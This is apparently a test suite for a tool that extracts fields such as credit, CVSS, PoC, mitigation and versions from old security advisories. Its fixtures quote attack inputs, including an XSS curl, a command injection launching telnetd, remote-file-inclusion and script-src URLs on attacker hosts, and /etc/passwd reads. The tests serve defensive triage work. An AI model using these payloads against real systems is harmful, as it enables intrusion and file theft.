// Phrasings of older mailing-list advisories (oss-security, Full Disclosure, Exploit-DB
// reposts) that the extractor missed or misread: header blocks, shell sessions, stack
// traces, numbered sections. Each value is pinned as a triager would write it.
import { describe, expect, it } from 'vitest';
import { extractedFields } from '../../test/helpers/extracted-fields.js';
import { extractReport } from './extract.js';

const fields = extractedFields;

describe('advisory header blocks', () => {
  it("reads a right-aligned 'key: value' header: its 'by:' is the credit, its 'impact:' score is no impact", () => {
    const text = [
      '              title: SQL Injection',
      '            product: WordPress WP Symposium Plugin',
      ' vulnerable version: 15.1 (and probably below)',
      '      fixed version: 15.4',
      '             impact: CVSS Base Score 7.5 (AV:N/AC:L/Au:N/C:P/I:P/A:P)',
      '                 by: Hannes Trunde',
    ].join('\n');
    const f = fields(text);
    expect(f.credit).toEqual({ kind: 'name', name: 'Hannes Trunde' });
    expect(f.impact).toBeUndefined();
    expect(f.cvss).toMatchObject({ vector: 'AV:N/AC:L/Au:N/C:P/I:P/A:P', version: '2.0', score: 7.5 });
    expect(f.fixedVersion).toBe('15.4');
  });

  it("takes an 'Impact:' line that only names a type for the type, and 'System Affected:' for the component", () => {
    const f = fields(' * System Affected: Adobe ColdFusion 2018\n * Impact: Unrestricted file upload\n');
    expect(f.vulnType).toBe('unrestricted file upload');
    expect(f.impact).toBeUndefined();
    expect(f.component).toBe('Adobe ColdFusion 2018'); // a year in a name stays: 'Windows Server 2019'
  });

  it("credits the name, not the team after an '@' nor the handle after 'aka'", () => {
    expect(fields('# Exploit Author: Qian Zhang@MarvelTeam Qihoo 360\nLocal root.').credit).toEqual({ kind: 'name', name: 'Qian Zhang' });
    expect(fields('Author: Alex Hernandez aka alt3kx:\nAccess bypass.').credit).toEqual({ kind: 'name', name: 'Alex Hernandez' });
    expect(fields('Reported-by: Jane Doe <jane@example.org>\nXSS.').credit).toEqual({ kind: 'name', name: 'Jane Doe' });
  });

  it('makes a title that only names the type into the Subject that says more, or the type in the component', () => {
    const text = '              title: SQL Injection\n            product: WordPress Tune Library Plugin\n';
    expect(fields(text).title).toBe('SQL Injection in WordPress Tune Library Plugin');
    expect(fields(text, 'SQL Injection in the Tune Library plugin for WordPress').title).toBe('SQL Injection in the Tune Library plugin for WordPress');
    expect(fields('Title: SQL injection in the login form\nProduct: Acme\n').title).toBe('SQL injection in the login form');
  });

  it("does not take a root shell's '# id' in a pasted session for the report's heading", () => {
    const text = 'usb-creator runs any helper as root.\n\n$ /tmp/test\n# id\neuid=0(root) groups=0(root)\n';
    expect(fields(text, null).title).not.toBe('id');
  });

  it("takes no title from a sanitizer's SUMMARY line and no mitigation from a heading that says there is none", () => {
    const asan = 'Heap-buffer-overflow in catdoc 0.95\n\nSUMMARY: AddressSanitizer: heap-buffer-overflow /src/numutils.c:22 getlong\n';
    expect(fields(asan).title).not.toMatch(/AddressSanitizer/);
    expect(fields('XSS in search.\n\nSolution: This issue was not fixed by the vendor.\n').mitigation).toBeUndefined();
    expect(fields('XSS in search.\n\nSolution: No solution was provided by the vendor.\n').mitigation).toBeUndefined();
    expect(fields('XSS in search.\n\nSolution: Upgrade to 2.0.1.\n').mitigation).toBe('Upgrade to 2.0.1.');
  });

  it('reads an imperative to upgrade or update as the mitigation, not a sentence that only mentions an update', () => {
    expect(fields('The desktop app leaks credentials.\n\nUpgrade Mattermost to version v4.4.0.').mitigation).toBe('Upgrade Mattermost to version v4.4.0.');
    expect(fields('Blind SQL injection in the forum.\n\nUpdate to the most recent plugin version.').mitigation).toBe(
      'Update to the most recent plugin version.',
    );
    expect(fields('Blind SQL injection in the forum.\n\nThe update to 2.0 added the forum page.').mitigation).toBeUndefined();
  });

  it("does not take a version given as 'Patched in:' for an affected one", () => {
    expect(fields('Ubuntu Trusty: usb-creator 0.2.56.3ubuntu is affected (Patched in: 0.2.56.3ubuntu0.1)').affectedVersions).toBe('0.2.56.3ubuntu');
  });

  it('takes no PoC from quoted product code or a stack trace, and takes the command typed at a prompt before the crash or at an interpreter', () => {
    const quoted =
      'Vulnerable source code:\nResourceService.java\n```\npublic void mdUpload(MdUploadRequest request, MultipartFile file) {\n  save(file);\n}\n```\n';
    expect(fields(quoted).poc).toBeUndefined();
    const crash = [
      'Heap-buffer-overflow in catdoc 0.95. ASAN output:',
      '',
      'john@fuzzing:~/catdoc/out/crashes$ catdoc id:000001,sig:06',
      '==4172==ERROR: AddressSanitizer: heap-buffer-overflow on address 0xb5f01618',
      '    0 0x805f498 in getlong /home/john/catdoc/src/numutils.c:22',
      '    1 0x8064aae in ole_init /home/john/catdoc/src/ole.c:254',
    ].join('\n');
    expect(fields(crash).poc).toBe('catdoc id:000001,sig:06');
    // At an interpreter, the line keeps its prompt, which says the language; a mail's quote of a quote is no prompt.
    const irb = 'It backtracks. For example:\n\nirb(main):009:0> text = \'<pre>     </pre\'\nprocessing time: 0.000026s\n=> "<pre>"\n';
    expect(fields(irb).poc).toBe("irb(main):009:0> text = '<pre>     </pre'");
    expect(fields('Reply:\n>>> import os\n>>> I think so too.\n').poc).toBeUndefined();
    expect(fields("In psql:\n\npostgres=# SELECT lo_import('/etc/passwd');\n").poc).toBe("postgres=# SELECT lo_import('/etc/passwd');");
    const exploit = 'PoC:\n```\ncurl -d "name=<script>alert(1)</script>" https://shop.example.com/search\n```\n';
    expect(fields(exploit).poc).toMatch(/^curl -d/);
  });

  it("does not read a fix list under an underlined 'Solution - Fix & Patch:' heading, a describing list or a program's output as steps", () => {
    const fix =
      'SQL injection in the user form.\n\nSolution - Fix & Patch:\n=======================\n1. Disallow sql-errors to be displayed.\n2. Use prepared statement to protect the sql query.\n';
    const f = fields(fix);
    expect(f.steps).toBeUndefined();
    expect(f.mitigation).toMatch(/^1\. Disallow sql-errors/);
    expect(fields('Details:\n\n1) The first problem occurs in the parser.\n2) The second problem occurs in send().\n').steps).toBeUndefined();
    expect(fields('user@ubuntu:~/poc$ ./pwn\npwn begin, let the bullets fly . . .\ntrigger modified tty_release . . .\n').steps).toBeUndefined();
    // A real numbered list of actions stays the steps.
    expect(fields('1. Log in as a normal user.\n2. Open /admin/users.\n').steps).toMatch(/^1\. Log in/);
  });

  it('does not read what a flaw leads to, the advice of "the following solutions", or a list of code links as steps', () => {
    const impact =
      '### Impact\n\nThe attacker can make the server fetch any URL. This may lead to:\n\n1. Leak the server IP address.\n2. Scan the internal network.\n';
    expect(fields(impact).steps).toBeUndefined();
    const solutions =
      'The algorithm is taken from the token.\n\nEither one of the following solutions will work.\n1. Set the algorithm in the call.\n2. Check the key type.\n';
    expect(fields(solutions).steps).toBeUndefined();
    const links =
      'The function has two paths:\n1) https://github.com/acme/vm/blob/3b310d5292c4d1448e673d7b3adb223f9353260e/vm/core.py#L270\n2) https://github.com/acme/vm/blob/3b310d5292c4d1448e673d7b3adb223f9353260e/vm/core.py#L290\n';
    expect(fields(links).steps).toBeUndefined();
    // Under a PoC heading, after "can lead to" in an earlier section, a numbered list is still the steps.
    const poc = '### Impact\nThis can lead to account takeover.\n\n### PoC\n1. Log in as a normal user.\n2. Open /admin/users.\n';
    expect(fields(poc).steps).toMatch(/^1\. Log in/);
  });

  it('reads user enumeration as an information disclosure, and does not ask its type', () => {
    expect(fields('User Enumeration using Open SSHD: by sending large passwords, a remote user can enumerate users.').vulnType).toBe('information disclosure');
  });

  it("reads 'Date Published:' as the disclosure date of a report that is out, 'array overrun' as a buffer overflow", () => {
    const f = fields('Date Reported: 25/06/2007\nDate Published: 05/03/2008\n\nMail messages run any javascript.');
    expect(f.disclosureDate).toBe('2008-03-05');
    expect(f.public).toBe(true);
    expect(fields('[ SeaMonkey 1.1.8 Remote Array Overrun (Arbitrary code execution) ]').vulnType).toBe('buffer overflow');
  });

  it("takes Core Security's '/-----' … '-----/' fences for code, and no by-line for the title", () => {
    const text =
      '>> Multiple vulnerabilities in Acme Manager\n>> Discovered by Jane Doe (jane@example.org), Acme Security\n=========\n\nPoC:\n/-----\nGET /cgi-bin/admin/servetest?cmd=smtp&ServerName=1.1.1.1;/usr/sbin/telnetd; HTTP/1.1\n-----/\n';
    const f = fields(text);
    expect(f.poc).toMatch(/^GET \/cgi-bin\/admin\/servetest/);
    expect(f.title).not.toMatch(/Discovered by/);
  });

  it("leaves out the attacker's server, download and source-browser links and the lines under 'Original URL:'", () => {
    const text = [
      'Original URL:',
      'http://securityreason.com/achievement_securityalert/71',
      '',
      'PoC: http://victim.example/pandora_diag.php?argc=2&arg=http://serverattacker/salsa.php%00',
      'Fix: http://www.openbsd.org/cgi-bin/cvsweb/src/lib/libc/gdtoa/sum.c and https://sourceforge.net/projects/pandora/files/3.1.1/',
      '<script src=http://attacker.com/joom163.js></script>',
    ].join('\n');
    expect(extractReport({ text, subject: null }).fields.locations?.value).toEqual([
      'http://victim.example/pandora_diag.php?argc=2&arg=http://serverattacker/salsa.php%00',
    ]);
  });

  it('takes a request line that wraps its HTTP version for a PoC, not for a step', () => {
    const f = fields('Request\n\nPOST /cf_scripts/scripts/ajax/ckeditor/plugins/filemanager/upload.cfm\nHTTP/1.1\nHost: hostname:portno\n');
    expect(f.poc).toMatch(/^POST \/cf_scripts/);
    expect(f.steps).toBeUndefined();
  });

  // The name under a sign-off was no credit until the labelling guide settled that sign-offs count (test/fixtures/reports/RELABEL-CREDIT.md).
  it("credits an advisory signed with its author's full name alone on the last line, and the name under a sign-off", () => {
    expect(fields('User enumeration in sshd.\n\nValid users take longer.\n\nEddie Harari\n').credit).toEqual({ kind: 'name', name: 'Eddie Harari' });
    expect(fields('Zip slip in restore.\n\nThanks,\nAiko\n').credit).toEqual({ kind: 'name', name: 'Aiko' });
    expect(fields('Zip slip in restore.\n\nBest Regards\n').credit).toBeUndefined();
  });

  it('takes the versions labelled as affected over a version read off the product line', () => {
    expect(fields('Software: WebCT Campus Edition 4.x (http://secunia.com/product/3280/)\nAffected Version: 4.1.5.8\n').affectedVersions).toBe('4.1.5.8');
    expect(fields('Product: SmartLock Hub firmware 2.2.7\n').affectedVersions).toBe('2.2.7');
  });

  it("reads more outcomes said without an attacker, and ends a 'Label: value' line's value at the next label", () => {
    expect(fields('The desktop ships a world-writeable /etc/rc.d/rc.sysinit which can be abused to execute commands on boot.').impact).toMatch(
      /abused to execute commands/,
    );
    expect(fields('A blind sql injection attack can be performed within the forum feature to obtain sensitive information from the database.').impact).toMatch(
      /obtain sensitive information/,
    );
    expect(fields('The length wraps around, resulting in OOB write.').impact).toMatch(/OOB write/);
    expect(fields('When the administrator opens the page, it can add the administrator account.').impact).toMatch(/add the administrator account/);
    expect(fields('Impact: Code execution, Security bypass\nRemotely Exploitable: Yes\nCVE Name: CVE-2013-2578\n').impact).toBe(
      'Code execution, Security bypass',
    );
  });

  it("takes a 'PoC:' value from its line or the next, but reads a fenced block after it whole", () => {
    expect(fields('Proof of concept:\n\nhttp://host/pandora_console/ajax.php?page=../../../../etc/passwd\n').poc).toMatch(/^http:\/\/host\/pandora_console/);
    const fenced =
      'It allows uploads as shown in the following Python PoC:\n\n/-----\nimport requests\nrequests.post("http://192.168.1.100/cgi-bin/uploadfile")\n-----/\n';
    expect(fields(fenced).poc).toMatch(/^import requests\nrequests\.post/);
  });

  it("reads '[+] Solution' sections, 'Confirmed Patched Versions:' and a fixed version glued to a firmware file name", () => {
    const f = fields('[+] Solution\n\nApply the security fix for version 3.1.\n\n[+] Timeline\n\nNov 2010: Disclosure of this advisory\n');
    expect(f.mitigation).toBe('Apply the security fix for version 3.1.');
    const g = fields('Confirmed Affected Versions: 7.0.0-build1904\nConfirmed Patched Versions:\nfw-b305hw2_380hw6_2500-7.0.1-build2093.bin\n');
    expect(g.fixedVersion).toBe('7.0.1-build2093');
    expect(g.affectedVersions).toBe('7.0.0-build1904');
  });

  it("takes pasted code's 'import' line for no step, and 'a traversal attack' for a path traversal", () => {
    expect(fields('Sample code:\nimport paramiko\nimport time\np = "A" * 25000\n').steps).toBeUndefined();
    expect(fields('A potential exists for a traversal attack.').vulnType).toBe('path traversal');
  });

  it("reads a CVE link written without its prefix and a 'Sample code:' section as the PoC", () => {
    expect(fields('See https://cve.mitre.org/cgi-bin/cvename.cgi?name=2022-45921 for details.').cves).toEqual(['CVE-2022-45921']);
    expect(fields('Sample code:\n----------------\nimport paramiko\np = "A" * 25000\n').poc).toMatch(/import paramiko/);
  });

  it("keeps a PoC request's header lines, a tool's '[*]' output inside its PoC, and credits no 'Thank You'", () => {
    const poc = fields('PoC: POST /search.php HTTP/1.1\nHost: shop.example.com\nContent-Type: application/x-www-form-urlencoded\n\nq=1\n');
    expect(poc.poc).toMatch(/Host: shop\.example\.com/);
    const tool = fields('Proof of concept:\n[*] Sending stage\n[+] Got shell as root\n');
    expect(tool.poc).toMatch(/Got shell/);
    expect(fields('XSS in search.\n\nThank You\n').credit).toBeUndefined();
  });

  it("reads a 'local root CA' for no privilege escalation", () => {
    expect(fields('The app trusts any local root CA certificate, so TLS can be intercepted.').vulnType).not.toBe('privilege escalation');
  });
});

describe("an exploit header's fix line", () => {
  it('reads "# Fixed on:" as the fixed version when it gives a version, and a date there as none', () => {
    const header = '# Exploit Title: TotalAV 2020 4.14.31 - Privilege Escalation\n# Version: 4.14.31\n';
    expect(fields(`${header}# Fixed on:  5.3.35\n# Tested on: Windows 10 x64\n`).fixedVersion).toBe('5.3.35');
    expect(fields(`${header}# Fixed in: 5.3.35\n`).fixedVersion).toBe('5.3.35');
    expect(fields(`${header}# Fixed on: 2020-01-09\n`).fixedVersion).toBeUndefined();
  });
});

describe('a "Fixed on:" line that gives a date (an independent review of the rule)', () => {
  it('reads no dotted date, date-then-version or following line as the fixed version', () => {
    expect(
      fields('The page title in Acme Wiki 2.1.0 is not escaped.\n\nTimeline:\nReported on: 2021.03.01\nFixed on: 2021.03.10\n\nUpgrade to 2.1.1.\n')
        .fixedVersion,
    ).toBe('2.1.1');
    expect(fields('The page title is not escaped.\n\nReported on: 01.03.21\nFixed on: 10.03.21\n').fixedVersion).toBeUndefined();
    expect(
      fields('The page title is not escaped.\n\nReported on: 2021-03-01\nFixed on: 2021-03-10\nVersions 2.0.0 through 2.1.0 are affected.\n').fixedVersion,
    ).toBeUndefined();
    expect(fields('The page title is not escaped.\n\nFixed on: not yet, the latest 2.1.0 is still vulnerable\n').fixedVersion).toBeUndefined();
  });
});
